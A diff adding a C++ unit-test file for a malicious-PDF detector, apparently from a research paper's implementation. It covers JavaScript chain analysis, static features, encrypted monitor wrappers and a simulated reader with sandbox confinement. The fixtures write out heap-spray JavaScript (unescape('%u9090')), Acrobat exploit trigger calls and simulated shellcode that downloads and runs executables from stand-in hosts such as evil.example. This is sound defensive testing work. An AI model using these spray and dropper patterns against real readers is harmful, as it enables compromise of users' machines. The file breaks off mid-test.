@@ -1,0 +1,835 @@
+// Tests for the paper's core contribution: Javascript-chain analysis,
+// static features F1–F5, key handling, monitor code generation, document
+// instrumentation/de-instrumentation, and the runtime detector with
+// confinement — including full instrumented-document end-to-end runs.
+#include <gtest/gtest.h>
+
+#include "core/detector.hpp"
+#include "core/instrumenter.hpp"
+#include "core/jschain.hpp"
+#include "core/keys.hpp"
+#include "core/monitor_codegen.hpp"
+#include "core/pipeline.hpp"
+#include "core/static_features.hpp"
+#include "js/interp.hpp"
+#include "pdf/filters.hpp"
+#include "pdf/parser.hpp"
+#include "pdf/writer.hpp"
+#include "reader/reader_sim.hpp"
+#include "reader/shellcode.hpp"
+
+namespace co = pdfshield::core;
+namespace pd = pdfshield::pdf;
+namespace rd = pdfshield::reader;
+namespace sy = pdfshield::sys;
+namespace js = pdfshield::js;
+namespace sp = pdfshield::support;
+
+namespace {
+
+// Builds a document with a catalog, one page, and an /OpenAction JS action.
+pd::Document doc_with_open_action_js(const std::string& script,
+                                     bool js_in_stream = false) {
+  pd::Document doc;
+  doc.header().found = true;
+  doc.header().offset = 0;
+  doc.header().version = "1.7";
+  doc.header().version_valid = true;
+
+  pd::Object js_value = pd::Object::string(script);
+  if (js_in_stream) {
+    pd::Stream s;
+    s.data = sp::to_bytes(script);
+    s.dict.set("Length", pd::Object(static_cast<std::int64_t>(s.data.size())));
+    const pd::Ref sref = doc.add_object(pd::Object(s));
+    js_value = pd::Object(sref);
+  }
+
+  pd::Dict action;
+  action.set("S", pd::Object::name("JavaScript"));
+  action.set("JS", js_value);
+  const pd::Ref action_ref = doc.add_object(pd::Object(action));
+
+  pd::Dict page;
+  page.set("Type", pd::Object::name("Page"));
+  const pd::Ref page_ref = doc.add_object(pd::Object(page));
+  pd::Dict pages;
+  pages.set("Type", pd::Object::name("Pages"));
+  pages.set("Kids", pd::Object(pd::Array{pd::Object(page_ref)}));
+  const pd::Ref pages_ref = doc.add_object(pd::Object(pages));
+
+  pd::Dict catalog;
+  catalog.set("Type", pd::Object::name("Catalog"));
+  catalog.set("Pages", pd::Object(pages_ref));
+  catalog.set("OpenAction", pd::Object(action_ref));
+  doc.trailer().set("Root", pd::Object(doc.add_object(pd::Object(catalog))));
+  return doc;
+}
+
+std::string spray_and(const std::string& shellcode, const std::string& tail) {
+  return "var unit = unescape('%u9090%u9090') + '" + shellcode + "';"
+         "var spray = unit;"
+         "while (spray.length < 4194304) spray += spray;"
+         "var keep = spray;" + tail;
+}
+
+// Full harness: front-end instruments, detector registers, reader opens.
+struct Harness {
+  sy::Kernel kernel;
+  sp::Rng rng{12345};
+  std::unique_ptr<co::RuntimeDetector> detector;
+  std::unique_ptr<co::FrontEnd> frontend;
+  std::unique_ptr<rd::ReaderSim> reader;
+
+  explicit Harness(const std::string& version = "9.0") {
+    detector = std::make_unique<co::RuntimeDetector>(kernel, rng);
+    frontend = std::make_unique<co::FrontEnd>(rng, detector->detector_id());
+    rd::ReaderConfig cfg;
+    cfg.version = version;
+    reader = std::make_unique<rd::ReaderSim>(kernel, cfg);
+    detector->attach(*reader);
+  }
+
+  // Instruments + registers + opens; returns the key for verdict lookups.
+  co::InstrumentationKey run(const pd::Document& doc, const std::string& name) {
+    co::FrontEndResult fe = frontend->process(pd::write_document(doc));
+    EXPECT_TRUE(fe.ok) << fe.error;
+    detector->register_document(fe.record.key, name, fe.features);
+    reader->open_document(fe.output, name);
+    return fe.record.key;
+  }
+};
+
+}  // namespace
+
+// ---------------------------------------------------------------------------
+// Javascript chains
+// ---------------------------------------------------------------------------
+
+TEST(JsChain, FindsChainThroughReferences) {
+  pd::Document doc = doc_with_open_action_js("app.alert(1);");
+  const co::JsChainAnalysis a = co::analyze_js_chains(doc);
+  ASSERT_EQ(a.sites.size(), 1u);
+  EXPECT_TRUE(a.sites[0].triggered);
+  EXPECT_EQ(a.sites[0].source, "app.alert(1);");
+  // Chain covers action + catalog (ancestor); ratio = |chain| / total.
+  EXPECT_GE(a.chain_objects.size(), 2u);
+  EXPECT_GT(a.chain_ratio(), 0.0);
+  EXPECT_LE(a.chain_ratio(), 1.0);
+}
+
+TEST(JsChain, JsInStreamIsDecoded) {
+  pd::Document doc = doc_with_open_action_js("var x = 42;", /*js_in_stream=*/true);
+  // Compress the JS stream to prove chain analysis decodes filters.
+  for (auto& [num, obj] : doc.objects()) {
+    if (obj.is_stream()) {
+      pd::Stream& s = obj.as_stream();
+      pd::EncodedStream enc = pd::encode_stream(s.data, {"FlateDecode"});
+      s.data = enc.data;
+      s.dict.set("Filter", enc.filter);
+    }
+  }
+  const co::JsChainAnalysis a = co::analyze_js_chains(doc);
+  ASSERT_EQ(a.sites.size(), 1u);
+  EXPECT_EQ(a.sites[0].source, "var x = 42;");
+  EXPECT_TRUE(a.sites[0].code_in_stream);
+}
+
+TEST(JsChain, UntriggeredJsIsNotMarkedTriggered) {
+  pd::Document doc;
+  pd::Dict orphan;
+  orphan.set("S", pd::Object::name("JavaScript"));
+  orphan.set("JS", pd::Object::string("var lonely = 1;"));
+  doc.add_object(pd::Object(orphan));
+  pd::Dict catalog;
+  catalog.set("Type", pd::Object::name("Catalog"));
+  doc.trailer().set("Root", pd::Object(doc.add_object(pd::Object(catalog))));
+  const co::JsChainAnalysis a = co::analyze_js_chains(doc);
+  ASSERT_EQ(a.sites.size(), 1u);
+  EXPECT_FALSE(a.sites[0].triggered);
+}
+
+TEST(JsChain, NextChainsShareOneSequence) {
+  pd::Document doc;
+  pd::Dict second;
+  second.set("S", pd::Object::name("JavaScript"));
+  second.set("JS", pd::Object::string("var b = 2;"));
+  const pd::Ref second_ref = doc.add_object(pd::Object(second));
+  pd::Dict first;
+  first.set("S", pd::Object::name("JavaScript"));
+  first.set("JS", pd::Object::string("var a = 1;"));
+  first.set("Next", pd::Object(second_ref));
+  const pd::Ref first_ref = doc.add_object(pd::Object(first));
+  pd::Dict catalog;
+  catalog.set("Type", pd::Object::name("Catalog"));
+  catalog.set("OpenAction", pd::Object(first_ref));
+  doc.trailer().set("Root", pd::Object(doc.add_object(pd::Object(catalog))));
+
+  const co::JsChainAnalysis a = co::analyze_js_chains(doc);
+  ASSERT_EQ(a.sites.size(), 2u);
+  EXPECT_EQ(a.sites[0].sequence_id, a.sites[1].sequence_id);
+  EXPECT_NE(a.sites[0].sequence_pos, a.sites[1].sequence_pos);
+}
+
+// ---------------------------------------------------------------------------
+// Static features
+// ---------------------------------------------------------------------------
+
+TEST(StaticFeatures, BenignRichDocumentHasLowRatio) {
+  pd::Document doc = doc_with_open_action_js("var v = 1;");
+  // Pad with content objects not on the JS chain.
+  for (int i = 0; i < 40; ++i) {
+    pd::Dict content;
+    content.set("Type", pd::Object::name("XObject"));
+    content.set("Index", pd::Object(i));
+    doc.add_object(pd::Object(content));
+  }
+  const co::StaticFeatures f = co::extract_static_features(doc);
+  EXPECT_LT(f.js_chain_ratio, 0.2);
+  EXPECT_FALSE(f.f1());
+  EXPECT_FALSE(f.f2());
+  EXPECT_EQ(f.binary_sum(), 0);
+}
+
+TEST(StaticFeatures, SparseMaliciousDocumentHasHighRatio) {
+  pd::Document doc = doc_with_open_action_js("evil();");
+  const co::StaticFeatures f = co::extract_static_features(doc);
+  EXPECT_GE(f.js_chain_ratio, 0.2);
+  EXPECT_TRUE(f.f1());
+}
+
+TEST(StaticFeatures, HeaderObfuscationDetected) {
+  pd::Document doc = doc_with_open_action_js("x();");
+  doc.header().offset = 100;
+  EXPECT_TRUE(co::extract_static_features(doc).f2());
+  doc.header().offset = 0;
+  doc.header().version_valid = false;
+  EXPECT_TRUE(co::extract_static_features(doc).f2());
+  doc.header().version_valid = true;
+  doc.header().found = false;
+  EXPECT_TRUE(co::extract_static_features(doc).f2());
+}
+
+TEST(StaticFeatures, HexEscapedKeywordOnChainDetected) {
+  // Parse from text so the raw spelling survives.
+  const std::string text =
+      "%PDF-1.4\n"
+      "1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n"
+      "2 0 obj\n<< /S /JavaScr#69pt /JS (evil()) >>\nendobj\n"
+      "trailer\n<< /Root 1 0 R >>\n";
+  pd::Document doc = pd::parse_document(sp::to_bytes(text));
+  const co::StaticFeatures f = co::extract_static_features(doc);
+  EXPECT_TRUE(f.f3());
+}
+
+TEST(StaticFeatures, EmptyObjectsOnChainCounted) {
+  pd::Document doc = doc_with_open_action_js("x();");
+  // Attach an empty object to the JS chain (referenced from the action).
+  pd::Dict empty;
+  const pd::Ref empty_ref = doc.add_object(pd::Object(empty));
+  for (auto& [num, obj] : doc.objects()) {
+    if (obj.is_dict() && obj.as_dict().contains("JS")) {
+      obj.as_dict().set("Extra", pd::Object(empty_ref));
+    }
+  }
+  const co::StaticFeatures f = co::extract_static_features(doc);
+  EXPECT_GE(f.empty_object_count, 1);
+  EXPECT_TRUE(f.f4());
+}
+
+TEST(StaticFeatures, MultiLevelEncodingOnChainDetected) {
+  pd::Document doc = doc_with_open_action_js("x();", /*js_in_stream=*/true);
+  for (auto& [num, obj] : doc.objects()) {
+    if (obj.is_stream()) {
+      pd::Stream& s = obj.as_stream();
+      pd::EncodedStream enc =
+          pd::encode_stream(s.data, {"ASCIIHexDecode", "FlateDecode"});
+      s.data = enc.data;
+      s.dict.set("Filter", enc.filter);
+    }
+  }
+  const co::StaticFeatures f = co::extract_static_features(doc);
+  EXPECT_EQ(f.max_encoding_levels, 2);
+  EXPECT_TRUE(f.f5());
+}
+
+TEST(StaticFeatures, EncodingSnapshotSurvivesDecompression) {
+  pd::Document doc = doc_with_open_action_js("x();", /*js_in_stream=*/true);
+  for (auto& [num, obj] : doc.objects()) {
+    if (obj.is_stream()) {
+      pd::Stream& s = obj.as_stream();
+      pd::EncodedStream enc =
+          pd::encode_stream(s.data, {"FlateDecode", "ASCIIHexDecode"});
+      s.data = enc.data;
+      s.dict.set("Filter", enc.filter);
+    }
+  }
+  const co::EncodingLevels levels = co::snapshot_encoding_levels(doc);
+  doc.decompress_all();
+  const co::StaticFeatures f =
+      co::extract_static_features(doc, co::analyze_js_chains(doc), &levels);
+  EXPECT_EQ(f.max_encoding_levels, 2);
+}
+
+// ---------------------------------------------------------------------------
+// Keys & encryption
+// ---------------------------------------------------------------------------
+
+TEST(Keys, GenerateAndParseRoundTrip) {
+  sp::Rng rng(1);
+  const std::string id = co::generate_detector_id(rng);
+  const co::InstrumentationKey key = co::generate_document_key(rng, id);
+  EXPECT_EQ(key.detector_id, id);
+  auto parsed = co::InstrumentationKey::parse(key.combined());
+  ASSERT_TRUE(parsed.has_value());
+  EXPECT_EQ(*parsed, key);
+}
+
+TEST(Keys, ParseRejectsMalformed) {
+  EXPECT_FALSE(co::InstrumentationKey::parse("").has_value());
+  EXPECT_FALSE(co::InstrumentationKey::parse("no-dash-here!").has_value());
+  EXPECT_FALSE(co::InstrumentationKey::parse("abcd-123").has_value());
+  EXPECT_FALSE(
+      co::InstrumentationKey::parse("zzzzzzzzzzzzzzzz-0123456789abcdef")
+          .has_value());
+}
+
+TEST(Keys, DocumentKeysAreUnique) {
+  sp::Rng rng(2);
+  const std::string id = co::generate_detector_id(rng);
+  std::set<std::string> seen;
+  for (int i = 0; i < 100; ++i) {
+    seen.insert(co::generate_document_key(rng, id).document_key);
+  }
+  EXPECT_EQ(seen.size(), 100u);
+}
+
+TEST(Encryption, CppRoundTrip) {
+  const std::string plain = "var payload = unescape('%u9090'); /* binary: \x01\x02 */";
+  const std::string key = "0123456789abcdef-fedcba9876543210";
+  const std::string enc = co::encrypt_script(plain, key);
+  EXPECT_NE(enc, plain);
+  EXPECT_EQ(co::decrypt_script(enc, key), plain);
+}
+
+TEST(Encryption, JsDecryptorMatchesCpp) {
+  // The generated JS decryptor must invert encrypt_script inside the engine.
+  sp::Rng rng(3);
+  const co::InstrumentationKey key =
+      co::generate_document_key(rng, co::generate_detector_id(rng));
+  const std::string original = "result = 6 * 7;";
+  const std::string wrapper = co::generate_monitor_wrapper(
+      original, key, co::EnvelopeRole::kMiddle, rng);  // no SOAP needed
+  js::Interpreter in;
+  in.run_source(wrapper);
+  js::Value* result = in.globals()->lookup("result");
+  ASSERT_NE(result, nullptr);
+  EXPECT_DOUBLE_EQ(result->as_number(), 42.0);
+}
+
+TEST(MonitorCodegen, WrappersAreRandomizedPerDocument) {
+  sp::Rng rng(4);
+  const co::InstrumentationKey key =
+      co::generate_document_key(rng, co::generate_detector_id(rng));
+  const std::string a =
+      co::generate_monitor_wrapper("x();", key, co::EnvelopeRole::kFull, rng);
+  const std::string b =
+      co::generate_monitor_wrapper("x();", key, co::EnvelopeRole::kFull, rng);
+  EXPECT_NE(a, b);  // identifiers, junk and decoys differ per generation
+}
+
+TEST(MonitorCodegen, DecoysPresent) {
+  sp::Rng rng(5);
+  const co::InstrumentationKey key =
+      co::generate_document_key(rng, co::generate_detector_id(rng));
+  co::MonitorCodegenOptions opts;
+  opts.decoy_count = 3;
+  const std::string w = co::generate_monitor_wrapper(
+      "x();", key, co::EnvelopeRole::kFull, rng, opts);
+  // 1 real + 3 decoy decryptor functions.
+  std::size_t count = 0, pos = 0;
+  while ((pos = w.find("function ", pos)) != std::string::npos) {
+    ++count;
+    ++pos;
+  }
+  EXPECT_EQ(count, 4u);
+}
+
+TEST(MonitorCodegen, RoleControlsSoapCalls) {
+  sp::Rng rng(6);
+  const co::InstrumentationKey key =
+      co::generate_document_key(rng, co::generate_detector_id(rng));
+  auto count_soap = [&](co::EnvelopeRole role) {
+    const std::string w =
+        co::generate_monitor_wrapper("x();", key, role, rng);
+    std::size_t n = 0, pos = 0;
+    while ((pos = w.find("SOAP.request", pos)) != std::string::npos) {
+      ++n;
+      ++pos;
+    }
+    return n;
+  };
+  EXPECT_EQ(count_soap(co::EnvelopeRole::kFull), 2u);
+  EXPECT_EQ(count_soap(co::EnvelopeRole::kEnterOnly), 1u);
+  EXPECT_EQ(count_soap(co::EnvelopeRole::kExitOnly), 1u);
+  EXPECT_EQ(count_soap(co::EnvelopeRole::kMiddle), 0u);
+}
+
+// ---------------------------------------------------------------------------
+// Instrumenter
+// ---------------------------------------------------------------------------
+
+TEST(Instrumenter, ReplacesTriggeredScriptAndRecordsOriginal) {
+  pd::Document doc = doc_with_open_action_js("app.alert('payload');");
+  sp::Rng rng(7);
+  co::Instrumenter inst(rng, "0123456789abcdef");
+  co::InstrumentationRecord rec = inst.instrument(doc);
+  ASSERT_EQ(rec.entries.size(), 1u);
+  EXPECT_EQ(rec.entries[0].original, "app.alert('payload');");
+  // The stored script is now the wrapper, not the original.
+  const co::JsChainAnalysis after = co::analyze_js_chains(doc);
+  ASSERT_EQ(after.sites.size(), 1u);
+  EXPECT_NE(after.sites[0].source.find("SOAP.request"), std::string::npos);
+  EXPECT_EQ(after.sites[0].source.find("app.alert('payload')"), std::string::npos)
+      << "original must be encrypted, not embedded in clear";
+}
+
+TEST(Instrumenter, DeinstrumentRestoresOriginal) {
+  pd::Document doc = doc_with_open_action_js("original();");
+  sp::Rng rng(8);
+  co::Instrumenter inst(rng, "0123456789abcdef");
+  co::InstrumentationRecord rec = inst.instrument(doc);
+  co::Instrumenter::deinstrument(doc, rec);
+  const co::JsChainAnalysis after = co::analyze_js_chains(doc);
+  ASSERT_EQ(after.sites.size(), 1u);
+  EXPECT_EQ(after.sites[0].source, "original();");
+}
+
+TEST(Instrumenter, DuplicateInstrumentationGuard) {
+  pd::Document doc = doc_with_open_action_js("x();");
+  sp::Rng rng(9);
+  co::Instrumenter inst(rng, "0123456789abcdef");
+  co::InstrumentationRecord first = inst.instrument(doc);
+  EXPECT_FALSE(first.already_instrumented);
+  co::InstrumentationRecord second = inst.instrument(doc);
+  EXPECT_TRUE(second.already_instrumented);
+  EXPECT_TRUE(second.entries.empty());
+}
+
+TEST(Instrumenter, StreamScriptsAreInstrumentedInPlace) {
+  pd::Document doc = doc_with_open_action_js("stream_code();", /*js_in_stream=*/true);
+  sp::Rng rng(10);
+  co::Instrumenter inst(rng, "0123456789abcdef");
+  co::InstrumentationRecord rec = inst.instrument(doc);
+  ASSERT_EQ(rec.entries.size(), 1u);
+  EXPECT_TRUE(rec.entries[0].in_stream);
+  const co::JsChainAnalysis after = co::analyze_js_chains(doc);
+  EXPECT_NE(after.sites[0].source.find("SOAP.request"), std::string::npos);
+}
+
+TEST(Instrumenter, DynamicLiteralRewritingCoversTableIvMethods) {
+  sp::Rng rng(11);
+  co::Instrumenter inst(rng, "0123456789abcdef");
+  const co::InstrumentationKey key =
+      co::generate_document_key(rng, "0123456789abcdef");
+  const std::string src =
+      "this.addScript('n', 'stage2();');"
+      "app.setTimeOut('delayed();', 1000);"
+      "this.setAction('WillClose', 'closer();');";
+  const std::string out = inst.instrument_dynamic_literals(src, key);
+  // Each literal payload was replaced by an (escaped) wrapper.
+  EXPECT_EQ(out.find("'stage2();'"), std::string::npos);
+  EXPECT_EQ(out.find("'delayed();'"), std::string::npos);
+  EXPECT_EQ(out.find("'closer();'"), std::string::npos);
+  std::size_t count = 0, pos = 0;
+  while ((pos = out.find("SOAP.request", pos)) != std::string::npos) {
+    ++count;
+    ++pos;
+  }
+  EXPECT_GE(count, 6u);  // 2 per wrapped literal
+}
+
+TEST(Instrumenter, DynamicRewritingLeavesNonLiteralsAlone) {
+  sp::Rng rng(12);
+  co::Instrumenter inst(rng, "0123456789abcdef");
+  const co::InstrumentationKey key =
+      co::generate_document_key(rng, "0123456789abcdef");
+  const std::string src = "app.setTimeOut(computed_code, 10);";
+  EXPECT_EQ(inst.instrument_dynamic_literals(src, key), src);
+}
+
+TEST(Instrumenter, SequencesGetSingleEnvelope) {
+  pd::Document doc;
+  pd::Dict second;
+  second.set("S", pd::Object::name("JavaScript"));
+  second.set("JS", pd::Object::string("var b = 2;"));
+  const pd::Ref second_ref = doc.add_object(pd::Object(second));
+  pd::Dict first;
+  first.set("S", pd::Object::name("JavaScript"));
+  first.set("JS", pd::Object::string("var a = 1;"));
+  first.set("Next", pd::Object(second_ref));
+  const pd::Ref first_ref = doc.add_object(pd::Object(first));
+  pd::Dict catalog;
+  catalog.set("Type", pd::Object::name("Catalog"));
+  catalog.set("OpenAction", pd::Object(first_ref));
+  doc.trailer().set("Root", pd::Object(doc.add_object(pd::Object(catalog))));
+
+  sp::Rng rng(13);
+  co::Instrumenter inst(rng, "0123456789abcdef");
+  inst.instrument(doc);
+  const co::JsChainAnalysis after = co::analyze_js_chains(doc);
+  std::size_t total_soap = 0;
+  for (const auto& site : after.sites) {
+    std::size_t pos = 0;
+    while ((pos = site.source.find("SOAP.request", pos)) != std::string::npos) {
+      ++total_soap;
+      ++pos;
+    }
+  }
+  // One envelope across the whole sequence: one enter + one exit.
+  EXPECT_EQ(total_soap, 2u);
+}
+
+// ---------------------------------------------------------------------------
+// End-to-end: instrumented document in the reader with the detector attached
+// ---------------------------------------------------------------------------
+
+TEST(EndToEnd, BenignDocumentStaysClean) {
+  Harness h;
+  pd::Document doc = doc_with_open_action_js(
+      "var total = 0; for (var i = 0; i < 50; i++) total += i;"
+      "app.alert('sum ' + total);");
+  for (int i = 0; i < 30; ++i) {
+    pd::Dict filler;
+    filler.set("Idx", pd::Object(i));
+    doc.add_object(pd::Object(filler));
+  }
+  const auto key = h.run(doc, "benign.pdf");
+  const co::Verdict v = h.detector->verdict(key);
+  EXPECT_FALSE(v.malicious);
+  EXPECT_DOUBLE_EQ(v.malscore, 0.0);
+  EXPECT_TRUE(h.detector->alerts().empty());
+}
+
+TEST(EndToEnd, InstrumentedScriptStillComputesOriginalSemantics) {
+  // Instrumentation must be behaviour-preserving for benign documents.
+  Harness h;
+  pd::Document doc = doc_with_open_action_js(
+      "var fields = ['a','b','c']; var msg = fields.join('-');"
+      "if (msg != 'a-b-c') throw 'broken semantics';"
+      "app.alert(msg);");
+  const auto key = h.run(doc, "semantics.pdf");
+  EXPECT_FALSE(h.detector->verdict(key).malicious);
+  EXPECT_FALSE(h.reader->process().crashed());
+}
+
+TEST(EndToEnd, SprayDropExecuteIsDetectedAndConfined) {
+  Harness h;
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://evil.example/m.exe", "c:/m.exe"}});
+  prog.ops.push_back({"EXEC", {"c:/m.exe"}});
+  pd::Document doc = doc_with_open_action_js(spray_and(
+      rd::encode_shellcode(prog), "Collab.getIcon(keep.substring(0, 1500));"));
+
+  const auto key = h.run(doc, "dropper.pdf");
+  const co::Verdict v = h.detector->verdict(key);
+  EXPECT_TRUE(v.malicious);
+  EXPECT_GE(v.malscore, h.detector->config().threshold);
+  ASSERT_EQ(h.detector->alerts().size(), 1u);
+  EXPECT_EQ(h.detector->alerts()[0], "dropper.pdf");
+
+  // Confinement: dropped file quarantined, no un-sandboxed child running.
+  EXPECT_FALSE(h.kernel.fs().exists("c:/m.exe"));
+  EXPECT_TRUE(h.kernel.fs().exists("quarantine://c:/m.exe"));
+  for (const auto& [pid, proc] : h.kernel.processes()) {
+    if (proc->image() == "c:/m.exe") {
+      EXPECT_TRUE(proc->sandboxed());
+      EXPECT_TRUE(proc->terminated());
+    }
+  }
+  // Executable tracked persistently.
+  EXPECT_TRUE(h.detector->downloaded_executables().count("c:/m.exe"));
+}
+
+TEST(EndToEnd, MemoryFeatureFiresOnSprayOnly) {
+  Harness h;
+  // Spray but exploit nothing (e.g. preparing a render-context bug that is
+  // absent from this build): only F8 should fire -> stays under threshold.
+  pd::Document doc = doc_with_open_action_js(spray_and("", ""));
+  for (int i = 0; i < 30; ++i) {
+    pd::Dict filler;
+    filler.set("Idx", pd::Object(i));
+    doc.add_object(pd::Object(filler));
+  }
+  const auto key = h.run(doc, "sprayonly.pdf");
+  const co::DocumentState* st = h.detector->state(key);
+  ASSERT_NE(st, nullptr);
+  EXPECT_TRUE(st->runtime_features.count(co::Feature::kF8_MemoryConsumption));
+  const co::Verdict v = h.detector->verdict(key);
+  EXPECT_FALSE(v.malicious);  // one in-JS feature, no other evidence: 9 < 10
+}
+
+TEST(EndToEnd, RenderContextExploitCaughtViaOutJsMonitoring) {
+  // Flash-style CVE: JS sprays (F8, in-JS), the drop+exec happens out of
+  // JS context -> F6 out-JS completes the score (9 + 1 = 10).
+  Harness h("9.0");
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://evil/f.exe", "c:/f.exe"}});
+  prog.ops.push_back({"EXEC", {"c:/f.exe"}});
+  pd::Document doc = doc_with_open_action_js(spray_and(rd::encode_shellcode(prog), ""));
+  for (int i = 0; i < 30; ++i) {
+    pd::Dict filler;
+    filler.set("Idx", pd::Object(i));
+    doc.add_object(pd::Object(filler));
+  }
+  pd::Stream flash;
+  flash.dict.set("Subtype", pd::Object::name("Flash"));
+  flash.dict.set("CVE", pd::Object::string("CVE-2010-3654"));
+  flash.data = sp::to_bytes("swf");
+  doc.add_object(pd::Object(flash));
+
+  const auto key = h.run(doc, "flash.pdf");
+  const co::Verdict v = h.detector->verdict(key);
+  EXPECT_TRUE(v.malicious) << "malscore=" << v.malscore;
+  const co::DocumentState* st = h.detector->state(key);
+  EXPECT_TRUE(st->runtime_features.count(co::Feature::kF8_MemoryConsumption));
+  EXPECT_TRUE(
+      st->runtime_features.count(co::Feature::kF6_OutJsProcessCreation));
+}
+
+TEST(EndToEnd, CrashWithStaticFeaturesStillDetected) {
+  // Spray + obfuscation, then a hijack that crashes the reader: memory
+  // consumption (9) + static feature (1) reaches the threshold.
+  Harness h;
+  pd::Document doc = doc_with_open_action_js(
+      spray_and("", "this.media.newPlayer(null);"));  // no shellcode -> crash
+  doc.header().offset = 64;  // header obfuscation (F2)
+  const auto key = h.run(doc, "crasher.pdf");
+  EXPECT_TRUE(h.reader->process().crashed());
+  const co::Verdict v = h.detector->verdict(key);
+  EXPECT_TRUE(v.malicious) << "malscore=" << v.malscore;
+}
+
+TEST(EndToEnd, CrashWithoutStaticFeaturesIsTheKnownFalseNegative) {
+  // The paper's 25 FNs: spray + crash, no obfuscation -> 9 < 10.
+  Harness h;
+  pd::Document doc = doc_with_open_action_js(
+      spray_and("", "this.media.newPlayer(null);"));
+  for (int i = 0; i < 30; ++i) {
+    pd::Dict filler;
+    filler.set("Idx", pd::Object(i));
+    doc.add_object(pd::Object(filler));
+  }
+  const auto key = h.run(doc, "fn.pdf");
+  EXPECT_TRUE(h.reader->process().crashed());
+  const co::Verdict v = h.detector->verdict(key);
+  EXPECT_FALSE(v.malicious);
+  EXPECT_DOUBLE_EQ(v.malscore, 9.0);
+}
+
+TEST(EndToEnd, PatchedCveSampleIsNoise) {
+  // The paper's 58 "did nothing" samples: version-fingerprinting malware
+  // that only attacks readers it can exploit. On our Acrobat 9 simulator
+  // the gate fails, nothing runs, nothing is flagged.
+  Harness h("9.0");
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"EXEC", {"c:/never.exe"}});
+  pd::Document doc = doc_with_open_action_js(
+      "if (app.viewerVersion < 7.5) {" +
+      spray_and(rd::encode_shellcode(prog), "this.getAnnots(-1);") + "}");
+  const auto key = h.run(doc, "noise.pdf");
+  EXPECT_FALSE(h.reader->process().crashed());
+  const co::Verdict v = h.detector->verdict(key);
+  EXPECT_FALSE(v.malicious);
+  EXPECT_DOUBLE_EQ(v.malscore, 0.0);
+  EXPECT_FALSE(h.kernel.fs().exists("c:/never.exe"));
+}
+
+TEST(EndToEnd, FakeSoapMessageConvictsSender) {
+  // Mimicry attack (§IV): malicious JS forges an "exit" message with a
+  // guessed (malformed) key, hoping to end monitoring early. Zero
+  // tolerance: the active document is convicted on the spot.
+  Harness h;
+  pd::Document doc = doc_with_open_action_js(
+      "SOAP.request({cURL: 'http://127.0.0.1:8777/pdfshield', oRequest: "
+      "{op: 'exit', key: 'guessed-key-123'}});");
+  const auto key = h.run(doc, "mimic.pdf");
+  const co::Verdict v = h.detector->verdict(key);
+  EXPECT_TRUE(v.malicious);
+  ASSERT_FALSE(v.evidence.empty());
+}
+
+TEST(Detector, SoapPolicyDistinguishesForeignFromForged) {
+  sy::Kernel kernel;
+  sp::Rng rng(77);
+  co::RuntimeDetector detector(kernel, rng);
+  rd::ReaderSim reader(kernel);
+  detector.attach(reader);
+
+  const auto key = co::generate_document_key(rng, detector.detector_id());
+  detector.register_document(key, "probe.pdf", {});
+
+  auto soap = [&](const std::string& op, const std::string& key_text) {
+    auto payload = js::make_object();
+    payload->set("op", js::Value(op));
+    payload->set("key", js::Value(key_text));
+    const js::Value resp = detector.handle_soap(js::Value(payload));
+    return resp.as_object()->get("status").as_string();
+  };
+
+  // Authentic traffic.
+  EXPECT_EQ(soap("enter", key.combined()), "ok");
+  // Foreign key (different detector id, well-formed): filtered, and the
+  // active document is NOT convicted.
+  EXPECT_EQ(soap("enter", "00112233445566ff-aabbccddeeff0011"), "rejected");
+  EXPECT_FALSE(detector.verdict(key).malicious);
+  // Forged key under OUR detector id (unknown document): conviction.
+  EXPECT_EQ(soap("exit", detector.detector_id() + "-0000000000000000"),
+            "rejected");
+  EXPECT_TRUE(detector.verdict(key).malicious);
+}
+
+TEST(Detector, BogusOpWithValidKeyIsForgery) {
+  sy::Kernel kernel;
+  sp::Rng rng(78);
+  co::RuntimeDetector detector(kernel, rng);
+  rd::ReaderSim reader(kernel);
+  detector.attach(reader);
+  const auto key = co::generate_document_key(rng, detector.detector_id());
+  detector.register_document(key, "probe.pdf", {});
+
+  auto payload = js::make_object();
+  payload->set("op", js::Value("enter"));
+  payload->set("key", js::Value(key.combined()));
+  detector.handle_soap(js::Value(payload));  // authentic enter
+
+  auto bogus = js::make_object();
+  bogus->set("op", js::Value("shutdown"));
+  bogus->set("key", js::Value(key.combined()));
+  detector.handle_soap(js::Value(bogus));
+  EXPECT_TRUE(detector.verdict(key).malicious);
+}
+
+TEST(EndToEnd, ForeignDetectorIdIsRejectedAsFake) {
+  // A document instrumented by a DIFFERENT installation: its keys fail the
+  // Detector-ID check, so its messages are treated as fake.
+  Harness h;
+  sp::Rng foreign_rng(999);
+  co::FrontEnd foreign(foreign_rng, co::generate_detector_id(foreign_rng));
+  pd::Document doc = doc_with_open_action_js("var x = 1;");
+  co::FrontEndResult fe = foreign.process(pd::write_document(doc));
+  ASSERT_TRUE(fe.ok);
+  // Register under OUR detector with OUR key so the verdict is queryable.
+  sp::Rng local_rng(31);
+  const auto local_key =
+      co::generate_document_key(local_rng, h.detector->detector_id());
+  h.detector->register_document(local_key, "foreign.pdf", fe.features);
+  // Open the foreign-instrumented file: its SOAP messages carry a foreign
+  // detector id -> rejected (and nothing crashes).
+  auto r = h.reader->open_document(fe.output, "foreign.pdf");
+  EXPECT_TRUE(r.js_ran);
+  EXPECT_FALSE(h.reader->process().crashed());
+}
+
+TEST(EndToEnd, CrossDocumentAttackIsLinked) {
+  // Document A drops the executable; document B executes it (§III-E).
+  Harness h;
+  rd::ShellcodeProgram drop_only;
+  drop_only.ops.push_back({"DROP", {"http://evil/split.exe", "c:/split.exe"}});
+  pd::Document doc_a = doc_with_open_action_js(spray_and(
+      rd::encode_shellcode(drop_only), "Collab.getIcon(keep.substring(0, 1500));"));
+  const auto key_a = h.run(doc_a, "stage-a.pdf");
+  ASSERT_TRUE(h.detector->downloaded_executables().count("c:/split.exe"));
+
+  rd::ShellcodeProgram exec_only;
+  exec_only.ops.push_back({"EXEC", {"c:/split.exe"}});
+  pd::Document doc_b = doc_with_open_action_js(spray_and(
+      rd::encode_shellcode(exec_only), "this.media.newPlayer(null);"));
+  const auto key_b = h.run(doc_b, "stage-b.pdf");
+
+  EXPECT_TRUE(h.detector->verdict(key_a).malicious);
+  EXPECT_TRUE(h.detector->verdict(key_b).malicious);
+}
+
+TEST(EndToEnd, StagedAttackViaAddScriptIsStillMonitored) {
+  // Stage 2 installed via addScript at runtime: the §IV countermeasure
